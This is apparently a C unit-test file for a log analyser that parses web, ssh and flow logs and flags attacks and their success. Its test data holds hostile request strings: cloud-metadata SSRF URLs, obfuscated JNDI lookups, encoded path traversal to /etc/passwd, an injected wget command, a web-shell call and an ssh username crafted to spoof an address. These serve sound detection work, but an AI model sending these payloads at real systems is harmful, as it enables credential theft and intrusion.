/* Lines of web and ssh logs, and which requests are attacks and which of those worked. */
#include "analysis/flowlog.h"
#include "analysis/sshlog.h"
#include "analysis/weblog.h"
#include "base/utc.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
/* cmocka needs the four above first */
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static void test_web_formats(void **state)
{
	(void)state;
	struct web_line l;
	char when[32];
	assert_true(web_parse(STR("192.0.2.7 - bob [01/Aug/2026:10:00:05 +0200] \"GET /a?b=c "
				  "HTTP/1.1\" 200 123 \"-\" \"curl/8\""),
		&l));
	assert_true(str_is(l.ip, "192.0.2.7"));
	assert_true(str_is(l.target, "/a?b=c"));
	assert_int_equal(l.status, 200);
	assert_int_equal(l.bytes, 123);
	utc_rfc3339(l.time_ms, when);
	assert_string_equal(when, "2026-08-01T08:00:05Z");
	assert_true(web_parse(STR("www.example.com:443 192.0.2.7 - - [01/Aug/2026:10:00:05 "
				  "+0000] \"GET / HTTP/1.0\" 403 - \"-\" \"-\""),
		&l));
	assert_true(str_is(l.ip, "192.0.2.7"));
	assert_int_equal(l.bytes, -1);
	assert_true(web_parse(STR("https 2026-08-01T10:00:05.123456Z app/web/1 192.0.2.7:4711 "
				  "10.0.0.1:80 0.000 0.001 0.000 502 - 34 366 \"GET "
				  "https://h:443/x HTTP/1.1\" \"curl/8\" - -"),
		&l));
	assert_true(l.alb && str_is(l.ip, "192.0.2.7"));
	assert_int_equal(l.status, 502);
	assert_int_equal(l.bytes, 366);
	assert_false(web_parse(STR("Aug  1 10:00:00 web-1 sshd[1]: hello"), &l));
	assert_false(web_parse(STR("[Thu Oct 13 12:24:49 2022] [error] x"), &l));
	assert_false(web_parse(
		STR("192.0.2.7 - - [41/Aug/2026:10:00:05 +0000] \"GET /\" 200 1"), &l));
}

static enum web_attack judge(const char *target, const char *agent, char role[80])
{
	char room[4096];
	struct web_aim aim;
	struct web_line l = { .target = str_from(target), .agent = str_from(agent) };
	enum web_attack a = web_judge(&l, room, sizeof(room), &aim);
	if (role) {
		(void)snprintf(role, 80, "%.*s", STR_ARG(aim.role));
	}
	return a;
}

static void test_web_judge(void **state)
{
	(void)state;
	char role[80];
	assert_int_equal(judge("/fetch?u=http://169.254.169.254/latest/meta-data/iam/"
			       "security-credentials/Web-Role",
				 "", role),
		WEB_SSRF_METADATA);
	assert_string_equal(role, "web-role");
	assert_int_equal(judge("/f?u=http%253A%252F%252F169.254.169.254%252Flatest%252Fmeta-"
			       "data%252Fiam%252Fsecurity-credentials%252FR",
				 "", role),
		WEB_SSRF_METADATA);
	assert_string_equal(role, "r");
	assert_int_equal(judge("/p?t=http://2852039166/", "", NULL), WEB_SSRF_METADATA);
	assert_int_equal(judge("/p?t=http://[fd00:ec2::254]/", "", NULL), WEB_SSRF_METADATA);
	assert_int_equal(judge("/", "${${lower:j}${::-n}di:ldap://x}", NULL), WEB_JNDI);
	assert_int_equal(judge("/?q=%24%7Bjndi%3Aldap://x%7D", "", NULL), WEB_JNDI);
	assert_int_equal(
		judge("/cgi-bin/.%2e/%2e%2e/%2e%2e/etc/passwd", "", NULL), WEB_TRAVERSAL);
	assert_int_equal(judge("/ping?h=1;wget%20http://x", "", NULL), WEB_COMMAND);
	assert_int_equal(judge("/uploads/shell.php?cmd=id", "", NULL), WEB_SHELL);
	assert_int_equal(judge("/?id=1+UNION+SELECT+1", "", NULL), WEB_SQL);
	assert_int_equal(judge("/.env", "", NULL), WEB_PROBE);
	assert_int_equal(judge("/products?id=5&sort=price", "Mozilla/5.0", NULL), WEB_NONE);
	assert_int_equal(judge("/articles/how-to-curl", "curl/8", NULL), WEB_NONE);
}

static void add_web(struct web *w, const char *line, const char *id)
{
	struct web_line l;
	assert_true(web_parse(str_from(line), &l));
	struct line_key key = { w->n_lines, true };
	web_add(w, &l, str_from(id), key);
}

/* An answer that says nothing is no success: the same for everything, or what all visitors get. */
static void test_web_success(void **state)
{
	(void)state;
	struct pool pool;
	struct web w;
	pool_init(&pool, 1, 1u << 20);
	web_init(&w, &pool);
	char line[300];
	static const char *const paths[] = { "/a?x=../../etc/passwd", "/b?x=../../etc/passwd",
		"/c?x=../../etc/passwd" };
	for (int i = 0; i < 3; i++) {
		(void)snprintf(line, sizeof(line),
			"192.0.2.1 - - [01/Aug/2026:10:00:0%d +0000] \"GET %s HTTP/1.1\" 200 "
			"777 \"-\" \"-\"",
			i, paths[i]);
		add_web(&w, line, "f:1");
	}
	add_web(&w,
		"192.0.2.9 - - [01/Aug/2026:10:00:00 +0000] \"GET /home HTTP/1.1\" 200 555 "
		"\"-\" \"-\"",
		"f:4");
	add_web(&w,
		"192.0.2.2 - - [01/Aug/2026:10:01:00 +0000] \"GET /home?x=../../etc/passwd "
		"HTTP/1.1\" 200 555 \"-\" \"-\"",
		"f:5");
	add_web(&w,
		"192.0.2.3 - - [01/Aug/2026:10:02:00 +0000] \"GET /d?x=../../etc/passwd "
		"HTTP/1.1\" 404 9 \"-\" \"-\"",
		"f:6");
	add_web(&w,
		"192.0.2.4 - - [01/Aug/2026:10:03:00 +0000] \"GET /d?x=../../etc/passwd "
		"HTTP/1.1\" 200 1810 \"-\" \"-\"",
		"f:7");
	add_web(&w,
		"192.0.2.5 - - [01/Aug/2026:10:04:00 +0000] \"GET / HTTP/1.1\" 200 10 \"-\" "
		"\"${jndi:ldap://x}\"",
		"f:8");
	web_settle(&w);
	assert_int_equal(w.n_hits, 7);
	for (size_t i = 0; i < w.n_hits; i++) {
		assert_int_equal(
			w.hits[i].success, str_is(pool_get(&pool, w.hits[i].ip), "192.0.2.4"));
		assert_int_equal(w.hits[i].possible, w.hits[i].attack == WEB_JNDI);
	}
	web_deinit(&w);
	pool_deinit(&pool);
}

static void test_ssh_lines(void **state)
{
	(void)state;
	struct ssh_line l = { .repeat = 1 };
	assert_int_equal(ssh_parse(STR("Aug  1 10:00:00 web-1 sshd[1]: Failed password for "
				       "invalid user oracle from 192.0.2.7 port 5 ssh2"),
				 &l),
		SSH_EVENT);
	assert_true(l.kind == SSH_FAILED && str_is(l.user, "oracle") &&
		    str_is(l.ip, "192.0.2.7") && !l.dated);
	assert_int_equal(ssh_parse(STR("2026-08-01T10:00:00Z web-1 sshd[1]: Accepted password "
				       "for root from 192.0.2.7 port 5 ssh2"),
				 &l),
		SSH_EVENT);
	assert_true(l.kind == SSH_PASSWORD && l.dated);
	assert_int_equal(
		ssh_parse(STR("Nov 2 15:40:14 w sshd-session[1]: message repeated 4 times: [ "
			      "Failed password for root from 192.0.2.7 port 5 ssh2]"),
			&l),
		SSH_EVENT);
	assert_int_equal(l.repeat, 4);
	/* The user's name is the attacker's: it must not put an address into our mouth. */
	assert_int_equal(
		ssh_parse(STR("Aug  1 10:00:00 w sshd[1]: Failed password for invalid user x "
			      "from 198.51.100.1 port 1 ssh2 from 192.0.2.7 port 5 ssh2"),
			&l),
		SSH_EVENT);
	assert_true(str_is(l.ip, "192.0.2.7"));
	assert_int_equal(ssh_parse(STR("Aug  1 10:00:00 w sudo:   bob : TTY=pts/0 ; PWD=/ ; "
				       "USER=root ; COMMAND=/bin/sh"),
				 &l),
		SSH_EVENT);
	assert_true(l.kind == SSH_ROOT && str_is(l.user, "bob"));
	assert_int_equal(ssh_parse(STR("Aug  1 10:00:00 w cron[1]: hello"), &l), SSH_OTHER);
	assert_int_equal(ssh_parse(STR("Aug 41 10:00:00 w sshd[1]: x"), &l), SSH_NOT_SYSLOG);
	assert_int_equal(ssh_parse(STR("hello"), &l), SSH_NOT_SYSLOG);
}

static void test_ssh_year(void **state)
{
	(void)state;
	struct pool pool;
	struct ssh s;
	struct ssh_line l = { .repeat = 1 };
	char when[32];
	int64_t near_ms = 0;
	pool_init(&pool, 1, 1u << 20);
	ssh_init(&s, &pool);
	assert_int_equal(ssh_parse(STR("Dec 31 23:59:59 w sshd[1]: Accepted password for root "
				       "from 192.0.2.7 port 5 ssh2"),
				 &l),
		SSH_EVENT);
	ssh_add(&s, &l, STR("auth.log:1"), 1);
	assert_true(utc_parse(STR("2026-01-01T00:30:00Z"), &near_ms));
	ssh_settle(&s, near_ms);
	utc_rfc3339(s.events[0].time_ms, when);
	assert_string_equal(when, "2025-12-31T23:59:59Z");
	assert_true(s.guessed);
	ssh_deinit(&s);
	pool_deinit(&pool);
}

static void test_flow(void **state)
{
	(void)state;
	struct pool pool;
	struct flow f;
	struct flow_format fmt = { .n = 0 };
	pool_init(&pool, 1, 1u << 20);
	flow_init(&f, &pool);
	assert_true(flow_line(&f, &fmt,
		STR("2 111122223333 eni-1 10.0.0.1 192.0.2.7 4000 1389 6 10 900 1785578400 "
		    "1785578460 ACCEPT OK")));
	assert_true(flow_line(&f, &fmt,
		STR("2 111122223333 eni-1 10.0.0.1 192.0.2.7 4001 1389 6 5 100 1785578460 "
		    "1785578520 ACCEPT OK")));
	assert_true(flow_line(&f, &fmt,
		STR("2 111122223333 eni-1 - - - - - - - 1785578400 1785578460 - NODATA")));
	assert_false(flow_line(&f, &fmt, STR("2 hello world")));
	assert_int_equal(f.rows.n, 1);
	const struct flow_row *row = table_at(&f.rows, 0);
	assert_false(row->reply);
	assert_int_equal(row->bytes, 1000);
	assert_int_equal(row->dst_port, 1389);
	assert_true(flow_header(STR("dstaddr srcaddr bytes action start end"), &fmt));
	assert_true(flow_line(
		&f, &fmt, STR("2001:db8::1 2001:db8::2 7 REJECT 1785578400 1785578460")));
	assert_int_equal(f.rows.n, 2);
	flow_deinit(&f);
	pool_deinit(&pool);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_web_formats),
		cmocka_unit_test(test_web_judge),
		cmocka_unit_test(test_web_success),
		cmocka_unit_test(test_ssh_lines),
		cmocka_unit_test(test_ssh_year),
		cmocka_unit_test(test_flow),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
